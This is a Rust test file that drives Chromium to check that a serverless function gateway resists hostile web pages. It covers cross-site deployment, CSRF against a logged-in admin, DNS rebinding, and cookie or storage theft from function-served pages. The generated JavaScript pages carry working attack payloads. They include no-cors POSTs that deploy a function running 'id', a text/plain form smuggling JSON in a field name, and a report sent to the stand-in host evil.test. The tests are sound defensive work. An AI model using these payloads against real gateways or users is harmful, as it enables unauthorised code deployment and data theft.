//! What web pages can do to a gateway on the machine of the person who looks at them, in a real browser.
//!
//! These need Chromium; `tests/README.md` says where that can be.

mod acts;
mod commands;
mod figures;
mod hostile;
mod limited;
mod live;
mod pages;
mod paths;
mod states;
mod tabs;

use http::Method;

use crate::harness::{Attacker, Browser, Function, Platform, Site, metrics_of, wait_until};

const DEPLOYMENT: &str = r#"{"service":"pwn","envProcess":"id"}"#;

/// A page whose script makes some attempts, each by its name, and reports what came of them.
fn page(port: u16, attempts: &str) -> String {
    format!(
        r#"<!doctype html><body><script>
        const found = {{ origin: self.origin }};
        const attempt = async (name, action) => {{
            try {{ found[name] = String(await action()); }} catch (error) {{ found[name] = "failed: " + error; }}
        }};
        const body = '{DEPLOYMENT}';
        (async () => {{
            {attempts}
            await fetch("http://evil.test:{port}/report", {{ method: "POST", mode: "no-cors", body: JSON.stringify(found) }});
        }})();
        </script></body>"#
    )
}

/// A function that answers with a page.
fn page_function(platform: &Platform, html: &str) -> serde_json::Value {
    let file = platform.site.path("page.html");
    std::fs::write(&file, html).unwrap();
    let vars = serde_json::json!({ "content_type": "text/html" });
    serde_json::json!({ "service": "page", "envProcess": format!("cat {}", file.display()), "envVars": vars })
}

/// Waits until a refusal is counted, which may come after the answer.
async fn wait_for_refused(platform: &Platform, method: &str) {
    let line = format!(r#"http_requests_total{{method="{method}",path="/system/functions",status="403"}}"#);
    wait_until("a refusal", async || metrics_of(platform.site.admin).await.contains(&line)).await;
}

/// What a page of another site tries at a gateway.
fn attempts_at(gateway: &str) -> String {
    format!(
        r#"
        await attempt("deploy", async () => (await fetch("{gateway}/system/functions",
            {{ method: "POST", mode: "no-cors", headers: {{ "Content-Type": "text/plain" }}, body }})).type);
        await attempt("read", async () => (await fetch("{gateway}/system/functions")).status);
        await attempt("call", async () => (await fetch("{gateway}/function/cat",
            {{ method: "POST", mode: "no-cors", body: "x" }})).type);
        await attempt("form", () => new Promise((done) => {{
            const frame = document.createElement("iframe");
            frame.name = "hidden";
            document.body.append(frame);
            const form = document.createElement("form");
            Object.assign(form, {{ action: "{gateway}/system/functions", method: "POST", enctype: "text/plain", target: "hidden" }});
            const field = document.createElement("input");
            field.name = '{{"service":"crossed","envProcess":"id","image":"';
            field.value = '"}}';
            form.append(field);
            document.body.append(form);
            frame.onload = () => done("sent");
            form.submit();
        }}));"#
    )
}

#[tokio::test]
async fn a_page_of_another_site_cannot_deploy_a_function() {
    let platform = Platform::start([Function::cat()]).await;
    let gateway = platform.gateway.url.clone();
    let attempts = attempts_at(&gateway);
    let attacker = Attacker::start(|port| page(port, &attempts)).await;
    let found = attacker.report_of(&platform.site, &format!("http://evil.test:{}/", attacker.port)).await;
    assert_eq!(
        (&found["deploy"], &found["call"]),
        (&"opaque".into(), &"opaque".into()),
        "the browser sent it: {found}"
    );
    assert!(found["read"].as_str().unwrap().starts_with("failed"), "{found}");
    wait_for_refused(&platform, "POST").await;
    for function in ["pwn", "crossed"] {
        assert!(platform.gateway.function(function).await.is_none(), "{function}: {found}");
    }
}

#[tokio::test]
async fn a_page_of_another_site_cannot_act_as_somebody_who_is_logged_in() {
    let mut site = Site::new([Function::cat()]);
    let _up = site.up_with_password(&[]).await;
    let browser = Browser::start(&site).await;
    browser.log_in("admin", &site.password()).await;
    browser.open("/ui/functions").await;
    browser.wait_for_text("cat").await;
    let attempts = attempts_at(&site.gateway.url);
    let attacker = Attacker::start(|port| page(port, &attempts)).await;
    browser.visit(&format!("http://evil.test:{}/", attacker.port)).await;
    let found = attacker.report().await;
    assert_eq!((&found["deploy"], &found["form"]), (&"opaque".into(), &"sent".into()), "the browser sent it: {found}");
    assert!(found["read"].as_str().unwrap().starts_with("failed"), "{found}");
    for function in ["pwn", "crossed"] {
        assert!(site.gateway.function(function).await.is_none(), "{function}: {found}");
    }
    browser.open("/ui/functions").await;
    browser.wait_for_text("cat").await;
}

#[tokio::test]
async fn a_name_that_points_to_this_machine_opens_nothing() {
    let platform = Platform::start_with(&["--function-pages", "trusted"], []).await;
    let attempts = r#"
        await attempt("read", async () => (await fetch("/system/functions")).headers.get("X-Skep-Error"));
        await attempt("deploy", async () => (await fetch("/system/functions", { method: "POST", body })).headers.get("X-Skep-Error"));"#;
    let attacker = Attacker::start(|port| page(port, attempts)).await;
    let function = page_function(&platform, &page(attacker.port, attempts));
    assert_eq!(platform.gateway.send(Method::POST, "/system/functions", &function).await.status, 202);
    platform.site.wait_for_function("page").await;
    let rebound = format!("http://evil.test:{}/function/page", platform.site.listen.port());
    let found = attacker.report_of(&platform.site, &rebound).await;
    assert_eq!(found["origin"], format!("http://evil.test:{}", platform.site.listen.port()), "{found}");
    assert_eq!((&found["read"], &found["deploy"]), (&"host_not_allowed".into(), &"host_not_allowed".into()), "{found}");
    assert!(platform.gateway.function("pwn").await.is_none());
}

#[tokio::test]
async fn a_page_that_a_function_made_cannot_act_as_whoever_looks_at_it() {
    let platform = Platform::start([]).await;
    let attempts = r#"
        await attempt("cookies", () => document.cookie);
        await attempt("storage", () => localStorage.length);
        await attempt("deploy", async () => (await fetch("/system/functions", { method: "POST", mode: "no-cors", body })).type);"#;
    let attacker = Attacker::start(|port| page(port, attempts)).await;
    let function = page_function(&platform, &page(attacker.port, attempts));
    assert_eq!(platform.gateway.send(Method::POST, "/system/functions", &function).await.status, 202);
    platform.site.wait_for_function("page").await;
    let found = attacker.report_of(&platform.site, &format!("{}/function/page", platform.gateway.url)).await;
    assert_eq!((&found["origin"], &found["deploy"]), (&"null".into(), &"opaque".into()), "{found}");
    for own in ["cookies", "storage"] {
        assert!(found[own].as_str().unwrap().starts_with("failed: SecurityError"), "{found}");
    }
    wait_for_refused(&platform, "POST").await;
    assert!(platform.gateway.function("pwn").await.is_none());
}
